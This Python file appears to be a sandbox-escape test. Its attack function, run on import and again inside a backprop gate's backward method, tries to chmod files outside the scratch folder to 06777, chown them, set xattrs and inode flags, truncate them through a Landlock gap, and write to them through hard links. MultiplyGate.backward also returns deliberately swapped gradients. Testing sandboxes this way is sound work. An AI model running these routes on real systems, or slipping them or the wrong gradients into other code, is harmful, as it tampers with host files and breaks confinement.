"""Attack: change files outside the sandbox through file descriptors.

attack.json names "targets" (files outside the scratch folder). For each that
opens read-only: fchmod to 06777, fchown, futimens, fsetxattr, the inode-flag
ioctl (FS_IOC_SETFLAGS), a read-only open with O_TRUNC (Landlock before ABI 3
checks no write for it), and a hard link into the scratch folder written
through. Prints SUCCEEDED when a target really changed, else blocked.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import json
import os

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
try:
    with open("attack.json") as f:
        TARGETS = json.load(f)["targets"]
except (OSError, ValueError, KeyError):
    TARGETS = []


def state(path):
    """What a metadata change would show (None when the file cannot be seen)."""
    try:
        st = os.stat(path)
        return (st.st_mode, st.st_uid, st.st_gid, st.st_size, st.st_mtime_ns, st.st_nlink,
                sorted(os.listxattr(path)))
    except OSError:
        return None


def tried(name, fn, path=None):
    """Run one route; SUCCEEDED only when the target really changed."""
    path = path or name.rsplit(" ", 1)[-1]
    before = state(path)
    try:
        r = fn()
        error = os.strerror(ctypes.get_errno()) if isinstance(r, int) and r < 0 else ""
    except BaseException as exc:
        error = str(exc)
    changed = before is not None and state(path) != before
    print("%s %s: %s" % ("SUCCEEDED" if changed else "blocked", name, error or "no change"))


def attack():
    for t in TARGETS:
        try:
            fd = os.open(t, os.O_RDONLY)
        except OSError as exc:
            print("blocked open %s: %s" % (t, exc))
        else:
            tried("fchmod " + t, lambda: os.fchmod(fd, 0o6777))
            tried("fchown " + t, lambda: os.fchown(fd, 65534, 65534))
            tried("futimens " + t, lambda: os.utime(fd, (0, 0)))
            tried("fsetxattr " + t, lambda: os.setxattr(fd, "user.bpgpwn", b"1"))
            flags = ctypes.c_int(0x20)  # FS_NOATIME_FL
            tried("FS_IOC_SETFLAGS " + t, lambda: libc.ioctl(fd, ctypes.c_ulong(0x40086602),
                                                              ctypes.byref(flags)))
            os.close(fd)
        tried("open O_RDONLY|O_TRUNC " + t, lambda: os.close(os.open(t, os.O_RDONLY | os.O_TRUNC)))
        link = os.path.join(os.getcwd(), "bpgpwn-link")

        def write_through_link():
            os.link(t, link)
            with open(link, "a") as f:
                f.write("bpgpwn")
        tried("link and write " + t, write_through_link)


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
